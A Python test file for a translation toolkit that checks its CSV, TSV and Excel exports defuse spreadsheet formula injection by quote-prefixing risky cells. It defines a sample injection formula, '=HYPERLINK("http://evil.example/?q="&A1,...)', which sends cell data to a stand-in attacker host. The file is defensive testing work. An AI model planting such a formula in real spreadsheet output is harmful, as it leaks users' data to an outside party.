"""Spreadsheet-bound outputs never hand a spreadsheet a formula (issue 18, OWASP CSV injection):
CSV and TSV cells beginning with = + - @ TAB CR get a quote in front, which the importers
remove again; every workbook gives such texts the quote-prefix style."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from toolkit.cellguard import FORMULA_START, guard, unguard
from toolkit.formats.tsv import read_tsv
from toolkit.glossary.io import export_glossary
from toolkit.glossary.io.csv import read_csv
from toolkit.glossary.io.xlsx import read_xlsx
from toolkit.glossary.model import Concept, Glossary, Kind, Status, Term, TermType
from toolkit.report.alignment import tsv_text

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Астана")'

GLOSSARY = Glossary.of([
    Concept(id="place-s-hertogenbosch", kind=Kind.PLACE,
            kk=(Term("'с-Хертогенбос"),),
            ru=(Term("'с-Хертогенбос"), Term("-Хертогенбос", Status.DEPRECATED)),
            en=(Term("'s-Hertogenbosch"), Term("+Den Bosch", Status.ADMITTED,
                                               TermType.SHORT_FORM)),
            note=HYPERLINK),
    Concept(id="other-minus", kind=Kind.OTHER, kk=(Term("@Астана"),), ru=(Term("=Астана"),),
            en=(Term("''Astana"),), definition="-1 as a definition"),
])


def _cells(data: bytes, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8")), delimiter=delimiter)
            for cell in row]


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_glossary_csv_and_tsv_cells_never_start_a_formula(fmt, delimiter):
    cells = _cells(export_glossary(GLOSSARY, fmt), delimiter)
    assert "'" + HYPERLINK in cells and "'-Хертогенбос" in cells and "''s-Hertogenbosch" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_glossary_csv_and_tsv_import_undo_the_guard(fmt, delimiter):
    result = read_csv(export_glossary(GLOSSARY, fmt), f"g.{fmt}", delimiter)
    assert not result.problems
    assert result.glossary == GLOSSARY


def test_a_hand_written_leading_quote_is_kept():
    data = (b"concept,kind,lang,term,status,type,note\n"
            b"place-s-hertogenbosch,place,en,'s-Hertogenbosch,preferred,fullForm,\n")
    assert read_csv(data, "g.csv").concepts[0].en[0].text == "'s-Hertogenbosch"


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="'=+-@\t\rАстанаs ", max_size=8))
def test_the_guard_is_undone_exactly_and_never_leaves_a_trigger_first(text):
    assert unguard(guard(text)) == text
    assert not guard(text).startswith(FORMULA_START)


def test_alignment_tsv_is_guarded_and_read_back_as_aligned():
    rows = [["-Сәлем, Астана!", "-Привет, Астана!"], [HYPERLINK, "@Астана"]]
    text = tsv_text(rows, [0.9, 0.2], 0.5)
    cells = [line.split("\t") for line in text.splitlines()]
    assert cells[0][:2] == ["'-Сәлем, Астана!", "'-Привет, Астана!"]
    assert not [c for row in cells for c in row if c.startswith(FORMULA_START)]
    segments = read_tsv(text.encode(), "aligned.tsv").segments
    assert segments.sources == ["-Сәлем, Астана!", HYPERLINK]
    assert segments.targets == ["-Привет, Астана!", "@Астана"]


def _formula_like_cells(path: Path) -> list[tuple[str, bool]]:
    book = openpyxl.load_workbook(path)
    return [(cell.value, bool(cell.quotePrefix)) for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)]


def _assert_all_quote_prefixed(path: Path, expected: str) -> None:
    cells = _formula_like_cells(path)
    assert any(expected in value for value, _quoted in cells), cells
    assert all(quoted for _value, quoted in cells), cells


def test_glossary_workbook_quote_prefixes_formula_like_texts(tmp_path):
    path = tmp_path / "g.xlsx"
    path.write_bytes(export_glossary(GLOSSARY, "xlsx"))
    _assert_all_quote_prefixed(path, "=Астана")
    assert read_xlsx(path.read_bytes(), "g.xlsx").glossary.get("other-minus").ru[0].text \
        == "=Астана"


SOURCE = HYPERLINK + " В Абакане живут 186 тысяч человек."
TARGET = "-2 Abakan has 168 thousand people."


def test_check_report_workbook_quote_prefixes_document_texts(tilmash, tmp_path):
    (tmp_path / "f.tsv").write_text(f"{SOURCE}\t{TARGET}\n", encoding="utf-8")
    run = tilmash("check", str(tmp_path / "f.tsv"), "--source-lang", "ru", "--target-lang",
                  "en", "--format", "xlsx", "-o", str(tmp_path / "r.xlsx"))
    assert run.exit_code == 1, run.stderr
    _assert_all_quote_prefixed(tmp_path / "r.xlsx", "HYPERLINK")


def test_project_report_workbook_quote_prefixes_document_texts(tilmash, tmp_path):
    (tmp_path / "day.ru.txt").write_text(SOURCE + "\n", encoding="utf-8")
    (tmp_path / "day.en.txt").write_text(TARGET + "\n", encoding="utf-8")
    (tmp_path / "other.ru.txt").write_text(SOURCE + "\n", encoding="utf-8")
    (tmp_path / "other.en.txt").write_text(TARGET + "\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    run = tilmash("check", str(tmp_path), "--format", "xlsx", "-o", str(out / "r.xlsx"))
    assert run.exit_code == 1, run.stderr
    _assert_all_quote_prefixed(out / "r.xlsx", "HYPERLINK")


def test_alignment_review_workbook_quote_prefixes_texts(tilmash, tmp_path):
    (tmp_path / "a.ru.txt").write_text(SOURCE + "\n", encoding="utf-8")
    (tmp_path / "a.en.txt").write_text(TARGET + "\n", encoding="utf-8")
    run = tilmash("align", str(tmp_path / "a.ru.txt"), str(tmp_path / "a.en.txt"), "--format",
                  "xlsx", "-o", str(tmp_path / "a.xlsx"))
    assert run.exit_code == 0, run.stderr
    _assert_all_quote_prefixed(tmp_path / "a.xlsx", "-2 Abakan")
